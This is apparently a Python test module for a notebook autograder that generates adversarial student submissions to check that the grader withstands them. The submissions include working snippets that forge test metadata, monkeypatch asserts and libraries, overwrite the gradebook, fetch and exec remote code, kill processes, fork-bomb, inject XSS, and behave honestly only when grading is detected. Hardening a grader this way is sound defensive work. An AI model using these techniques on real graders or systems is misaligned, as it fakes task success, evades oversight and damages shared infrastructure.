"""Adversarial submissions to lab 1: every known way to beat a notebook autograder.

Each attack builds a submission from the released student copy. Most keep the stubs and try
to turn failing tests into passes; some pair an honest answer with an attack on the grader, to
show the honest part still earns its points. `HONEST[name]` lists the exercises answered
honestly, so the deserved score is exactly the points of their tests.
"""
from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Callable

import nbformat

from llmlab.grading import samples, sanitize

LAB = "01-attention"
ATTACKS: dict[str, Callable[[nbformat.NotebookNode, dict, dict], nbformat.NotebookNode | str]] = {}
HONEST: dict[str, tuple[str, ...]] = {}


def attack(name: str, honest: tuple[str, ...] = ()):
    """Register an attack; `honest` names the exercises it answers correctly."""

    def register(fn):
        ATTACKS[name] = fn
        HONEST[name] = honest
        return fn

    return register


def _stub_with(template, solution: dict, honest: tuple[str, ...], extra: dict[str, str]) -> nbformat.NotebookNode:
    """The template with honest answers for `honest` and `extra` code appended to given cells."""
    answers = {gid: solution[gid] for gid in honest}
    for gid, code in extra.items():
        base = answers.get(gid, _template_source(template, gid))
        answers[gid] = f"{base}\n\n{code}"
    return samples.apply(template, answers)


def _template_source(template, gid: str) -> str:
    return next(c.source for c in template.cells if sanitize.nbgrader_meta(c).get("grade_id") == gid)


def _tests(nb) -> list:
    return [c for c in nb.cells if sanitize.is_test(c)]


# --- tampering with the notebook itself ---------------------------------------------------

@attack("edit-test-cells")
def _(template, solution, ctx):
    nb = copy.deepcopy(template)
    for cell in _tests(nb):
        cell.source = "pass  # tests removed"
    return nb


@attack("delete-test-cells")
def _(template, solution, ctx):
    nb = copy.deepcopy(template)
    nb.cells = [c for c in nb.cells if not sanitize.is_test(c)]
    return nb


@attack("retag-skip-execution")
def _(template, solution, ctx):
    nb = copy.deepcopy(template)
    for cell in _tests(nb):
        cell.metadata.setdefault("tags", []).append("skip-execution")
    return nb


@attack("retag-raises-exception")
def _(template, solution, ctx):
    nb = copy.deepcopy(template)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.metadata.setdefault("tags", []).append("raises-exception")
    return nb


@attack("forge-metadata")
def _(template, solution, ctx):
    nb = copy.deepcopy(template)
    for cell in _tests(nb):
        meta = cell.metadata["nbgrader"]
        meta.update(points=0, grade=False, solution=True, checksum="0" * 32)
        cell.source = "pass"
    nb.metadata["llmlab"] = {"forbidden": [], "grading": {"cell_s": 100000, "memory_mb": 100000}}
    return nb


@attack("swap-kernelspec")
def _(template, solution, ctx):
    nb = copy.deepcopy(template)
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    nb.metadata["language_info"] = {"name": "bash"}
    return nb


@attack("not-a-notebook")
def _(template, solution, ctx):
    return '{"cells": "all tests passed", "metadata": {}}'


# --- reaching the verdict from inside the student's process -------------------------------

@attack("ipython-ast-transformer")
def _(template, solution, ctx):
    code = ("import ast\n"
            "class _NoAsserts(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node):\n        return ast.Pass()\n"
            "get_ipython().ast_transformers.append(_NoAsserts())")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("ipython-input-transformer")
def _(template, solution, ctx):
    code = "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("custom-exception-handler")
def _(template, solution, ctx):
    code = ("get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)\n"
            "import sys\nsys.excepthook = lambda *a: None")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("monkeypatch-libraries")
def _(template, solution, ctx):
    code = ("import torch, numpy, torch.testing\n"
            "torch.allclose = lambda *a, **k: True\n"
            "torch.equal = lambda *a, **k: True\n"
            "torch.testing.assert_close = lambda *a, **k: None\n"
            "numpy.allclose = lambda *a, **k: True\n"
            "torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)\n"
            "import llmlab.checks\n"
            "for _n in dir(llmlab.checks):\n"
            "    if _n.startswith('check_'):\n"
            "        setattr(llmlab.checks, _n, lambda *a, **k: None)\n"
            "def scaled_dot_product_attention(q, k, v, mask=None):\n    return torch.zeros_like(q)")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("monkeypatch-builtins")
def _(template, solution, ctx):
    code = ("import builtins\n"
            "builtins.AssertionError = type('AssertionError', (Warning,), {})\n"
            "builtins.isinstance = lambda *a: True\n"
            "builtins.abs = lambda x: 0\n"
            "builtins.max = lambda *a, **k: 0")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("lying-eq-object")
def _(template, solution, ctx):
    code = ("class _Anything:\n"
            "    shape = property(lambda self: self)\n"
            "    def __eq__(self, other): return True\n"
            "    def __ne__(self, other): return False\n"
            "    def __bool__(self): return True\n"
            "    def __getattr__(self, name): return lambda *a, **k: self\n"
            "    def __iter__(self): return iter(())\n"
            "    def __reduce__(self): return (print, ('pwned',))\n"
            "def scaled_dot_product_attention(q, k, v, mask=None):\n    return _Anything()\n"
            "def causal_mask(T):\n    return _Anything()\n"
            "def padding_mask(lengths, T):\n    return _Anything()")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("lying-tensor-subclass")
def _(template, solution, ctx):
    code = ("import torch\n"
            "class _Liar(torch.Tensor):\n"
            "    def __eq__(self, other): return torch.ones((), dtype=torch.bool)\n"
            "    @classmethod\n"
            "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
            "        if func in (torch.allclose, torch.equal, torch.Tensor.allclose): return True\n"
            "        return super().__torch_function__(func, types, args, kwargs or {})\n"
            "def scaled_dot_product_attention(q, k, v, mask=None):\n"
            "    return torch.zeros(*q.shape[:-1], v.shape[-1]).as_subclass(_Liar)")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("forbidden-call")
def _(template, solution, ctx):
    code = ("import torch.nn.functional as F\n"
            "def scaled_dot_product_attention(q, k, v, mask=None):\n"
            "    return F.scaled_dot_product_attention(q, k, v, attn_mask=mask)")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("forbidden-call-obfuscated")
def _(template, solution, ctx):
    code = ("import importlib\n"
            "_f = getattr(importlib.import_module('torch.nn.' + 'functional'), 'scaled_dot' + '_product_attention')\n"
            "_m = importlib.import_module('llmlab.' + 'atten' + 'tion')\n"
            "def scaled_dot_product_attention(q, k, v, mask=None):\n    return _f(q, k, v, attn_mask=mask)\n"
            "def causal_mask(T):\n    return getattr(_m, 'causal_' + 'mask')(T)\n"
            "def padding_mask(lengths, T):\n    return getattr(_m, 'padding_' + 'mask')(lengths, T)")
    return _stub_with(template, solution, (), {"sdpa": code})


# --- reaching for files, the network, the grader's process ---------------------------------

def _exec_solution_from(paths: list[str]) -> str:
    """Code that tries to read the reference notebook and run its solution cells."""
    return ("import json, os\n"
            f"for _p in {paths!r}:\n"
            "    try:\n"
            "        _nb = json.load(open(_p))\n"
            "    except Exception:\n"
            "        continue\n"
            "    for _c in _nb['cells']:\n"
            "        if _c.get('metadata', {}).get('nbgrader', {}).get('solution') and _c['cell_type'] == 'code':\n"
            "            exec(''.join(_c['source']), globals())\n")


@attack("read-solutions")
def _(template, solution, ctx):
    root = ctx["root"]
    paths = [f"{root}/solutions/{LAB}/attention.ipynb", f"{root}/../solutions/{LAB}/attention.ipynb",
             "/home/jovyan/solutions/01-attention/attention.ipynb"]
    return _stub_with(template, solution, (), {"sdpa": _exec_solution_from(paths)})


@attack("read-hidden-tests-and-gradebook")
def _(template, solution, ctx):
    code = ("import sqlite3, glob\n"
            f"_found = glob.glob('{ctx['work']}/**/*.ipynb', recursive=True) + glob.glob('{ctx['root']}/**/*.db', recursive=True)\n"
            f"print('seen:', len(_found))\n" + _exec_solution_from([f"{ctx['work']}/release/{LAB}/attention.ipynb"]))
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("write-gradebook-and-results")
def _(template, solution, ctx):
    work = ctx["work"]
    code = ("import sqlite3, json, os\n"
            "try:\n"
            f"    _db = sqlite3.connect('{work}/gradebook.db')\n"
            "    _db.execute('update grade set auto_score = 100, manual_score = 100')\n"
            "    _db.commit()\n"
            "except Exception as e:\n    print('gradebook:', e)\n"
            "try:\n"
            f"    os.makedirs('{work}/results/{LAB}', exist_ok=True)\n"
            f"    open('{work}/results/{LAB}/write-gradebook-and-results.json', 'w').write(json.dumps("
            "{'student': 'write-gradebook-and-results', 'score': 20.0, 'max_score': 20.0}))\n"
            "except Exception as e:\n    print('results:', e)")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("write-outside-scratch")
def _(template, solution, ctx):
    root = ctx["root"]
    code = ("import os\n"
            "for _p in [" + ", ".join(repr(str(p)) for p in [
                f"{root}/lib/llmlab/checks/attention.py", f"{root}/labs/{LAB}/attention.ipynb", f"{root}/grading/policy.toml",
                "/usr/lib/python3/dist-packages/pwned.py", f"{root}/.venv/lib/pwned.pth"]) + "]:\n"
            "    try:\n"
            "        open(_p, 'a').write('\\ndef check_sdpa(fn): pass\\n')\n"
            "    except OSError as e:\n"
            "        print('blocked:', _p, e.__class__.__name__)")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("network-exfiltration")
def _(template, solution, ctx):
    url = ctx["solution_url"]
    code = ("import urllib.request, socket\n"
            "try:\n"
            f"    exec(urllib.request.urlopen({url!r}, timeout=3).read().decode(), globals())\n"
            "except Exception as e:\n    print('no network:', e.__class__.__name__)\n"
            "try:\n    socket.getaddrinfo('pypi.org', 443)\n    print('dns works')\n"
            "except Exception as e:\n    print('no dns:', e.__class__.__name__)")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("detect-grading")
def _(template, solution, ctx):
    honest_code = solution["sdpa"].replace("\n", "\n    ")
    code = ("import os, sys\n"
            "_signals = [k for k in os.environ if any(w in k.upper() for w in ('NBGRADER', 'GRADE', 'LLMLAB_WORK', 'JPY_'))]\n"
            "_signals += [w for w in ('submitted', 'autograded', 'feedback') if w in os.getcwd()]\n"
            "_signals += [f for f in ('timestamp.txt', 'gradebook.db', '.nbgrader.log', '../timestamp.txt') if os.path.exists(f)]\n"
            "if _signals:  # only behave when someone is looking\n"
            f"    {honest_code}")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("kill-the-grader")
def _(template, solution, ctx):
    code = ("import os, signal\n"
            "for _pid in (os.getppid(), 1, -1):\n"
            "    try:\n        os.kill(_pid, signal.SIGKILL)\n"
            "    except Exception as e:\n        print('kill', _pid, e.__class__.__name__)")
    return _stub_with(template, solution, (), {"sdpa": code})


# --- denial of service: the honest part must keep its points --------------------------------

@attack("sys-exit", honest=("sdpa",))
def _(template, solution, ctx):
    return _stub_with(template, solution, ("sdpa",), {"masks": "raise SystemExit(0)"})


@attack("os-exit", honest=("sdpa",))
def _(template, solution, ctx):
    return _stub_with(template, solution, ("sdpa",), {"masks": "import os\nos._exit(0)"})


@attack("sigint-proof-loop", honest=("sdpa",))
def _(template, solution, ctx):
    code = "while True:\n    try:\n        pass\n    except BaseException:\n        pass"
    return _stub_with(template, solution, ("sdpa",), {"masks": code})


@attack("hang-when-called", honest=("masks",))
def _(template, solution, ctx):
    code = "def scaled_dot_product_attention(q, k, v, mask=None):\n    while True:\n        pass"
    return _stub_with(template, solution, ("masks",), {"sdpa": code})


@attack("huge-output", honest=("sdpa", "masks"))
def _(template, solution, ctx):
    code = "print('x' * 50_000_000)\nprint('y' * 50_000_000, end='')"
    return _stub_with(template, solution, ("sdpa", "masks"), {"masks": code})


@attack("memory-bomb", honest=("sdpa",))
def _(template, solution, ctx):
    code = "_hog = []\nwhile True:\n    _hog.append(bytearray(100 << 20))"
    return _stub_with(template, solution, ("sdpa",), {"heads": code})


@attack("fork-bomb", honest=("sdpa",))
def _(template, solution, ctx):
    code = ("import os\n"
            "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass")
    return _stub_with(template, solution, ("sdpa",), {"heads": code})


# --- the forbidden rule, decided before anything runs (the checked subset) -------------------

def _sdpa_by(body: str) -> dict[str, str]:
    return {"sdpa": "import torch\ndef scaled_dot_product_attention(q, k, v, mask=None):\n    " + body.replace("\n", "\n    ")}


@attack("run-library-source")
def _(template, solution, ctx):
    code = ("import llmlab\n"
            "_ns = {}\n"
            "exec(open(llmlab.__path__[0] + '/attention.py').read(), _ns)\n"
            "def scaled_dot_product_attention(q, k, v, mask=None):\n    return _ns['scaled_dot_product_attention'](q, k, v, mask)")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("switch-off-tripwire-gc")
def _(template, solution, ctx):
    code = ("import gc, torch.nn.functional as F\n"
            "for _o in gc.get_objects():\n"
            "    if type(_o).__name__ == 'Guard':\n        _o.active = False\n        _o.torch_funcs.clear()\n"
            "def scaled_dot_product_attention(q, k, v, mask=None):\n"
            "    return getattr(F, 'scaled_dot_product_attention')(q, k, v, attn_mask=mask)")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("switch-off-tripwire-frames")
def _(template, solution, ctx):
    code = ("import torch\n"
            "def _frames():\n    yield 1\n"
            "def scaled_dot_product_attention(q, k, v, mask=None):\n"
            "    g = _frames()\n    f = g.gi_frame\n"
            "    while f is not None:\n"
            "        if 'guard' in f.f_globals:\n            f.f_globals['guard'].active = False\n"
            "        f = f.f_back\n"
            "    return torch.nn.functional.softmax(q @ k.transpose(-2, -1), -1) @ v")
    return _stub_with(template, solution, (), {"sdpa": code})


@attack("kernel-by-torch-ops")
def _(template, solution, ctx):
    return _stub_with(template, solution, (), _sdpa_by("return torch.ops.aten.scaled_dot_product_attention(q, k, v, mask)"))


@attack("kernel-by-torch-c")
def _(template, solution, ctx):
    return _stub_with(template, solution, (), _sdpa_by("return torch._C._nn.scaled_dot_product_attention(q, k, v, mask)"))


@attack("kernel-by-dunder-walk")
def _(template, solution, ctx):
    body = ("mods = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'module']\n"
            "return torch.nn.functional.__dict__['scaled_dot_' + 'product_attention'](q, k, v, mask)")
    return _stub_with(template, solution, (), _sdpa_by(body))


@attack("kernel-by-library-model")
def _(template, solution, ctx):
    body = ("from llmlab.model import CausalSelfAttention\n"
            "m = CausalSelfAttention(q.shape[-1], 1)\n"
            "return m(q.reshape(-1, q.shape[-2], q.shape[-1]))")
    return _stub_with(template, solution, (), _sdpa_by(body))


@attack("format-string-escape")
def _(template, solution, ctx):
    body = "print('{0.__globals__}'.format(scaled_dot_product_attention))\nreturn q"
    return _stub_with(template, solution, (), _sdpa_by(body))


@attack("stop-reading-requests", honest=("sdpa",))
def _(template, solution, ctx):
    code = "import time, llmlab.grading.protocol as p\np.recv = lambda *a, **k: time.sleep(10**6)"
    return _stub_with(template, solution, ("sdpa",), {"masks": code})


# --- feedback: no student script reaches a browser; hidden tests leak nothing -----------------

XSS = "<img src=x onerror=\"document.title='XSS'\"> [click](javascript:document.title='XSS')"


@attack("script-in-answers", honest=("sdpa",))
def _(template, solution, ctx):
    nb = _stub_with(template, solution, ("sdpa",), {"masks": "print('<script>document.title=\"XSS\"</script>')"})
    for cell in nb.cells:
        if cell.cell_type == "markdown" and sanitize.is_solution(cell):
            cell.source = "My answer. " + XSS
    return nb


@attack("hidden-output-leak", honest=("sdpa",))
def _(template, solution, ctx):
    code = solution["sdpa"].replace("def scaled_dot_product_attention(q, k, v, mask=None):",
                                    "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                    "    print('LEAK', tuple(q.shape), q.flatten()[:3].tolist())")
    assert "LEAK" in code
    return _stub_with(template, {"sdpa": code}, ("sdpa",), {})


@attack("huge-replies", honest=("sdpa",))
def _(template, solution, ctx):
    code = solution["sdpa"].replace("def scaled_dot_product_attention(q, k, v, mask=None):",
                                    "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                    "    print('w' * 4_000_000)")
    assert "'w' * 4_000_000" in code
    return _stub_with(template, {"sdpa": code}, ("sdpa",), {})


@attack("fill-tmp", honest=("sdpa",))
def _(template, solution, ctx):
    code = ("_chunk = b'x' * (8 << 20)\n"
            "for _i in range(128):\n    with open(f'/tmp/f{_i}', 'wb') as _f:\n        _f.write(_chunk)")
    return _stub_with(template, solution, ("sdpa",), {"heads": code})


def build(dest: Path, template_path: Path, solution_path: Path, ctx: dict, only: list[str] | None = None) -> dict[str, tuple[str, ...]]:
    """Write every attack as dest/<attack>/<notebook>; return {attack: honest exercises}."""
    template = nbformat.read(template_path, as_version=4)
    source = nbformat.read(solution_path, as_version=4)
    solution = {sanitize.nbgrader_meta(c)["grade_id"]: c.source for c in source.cells if sanitize.is_solution(c)}
    for name, make in ATTACKS.items():
        if only is not None and name not in only:
            continue
        nb = make(template, solution, ctx)
        (dest / name).mkdir(parents=True, exist_ok=True)
        target = dest / name / template_path.name
        if isinstance(nb, str):
            target.write_text(nb)
        else:
            target.write_text(json.dumps(nb, indent=1))
    return {n: HONEST[n] for n in ATTACKS if only is None or n in only}
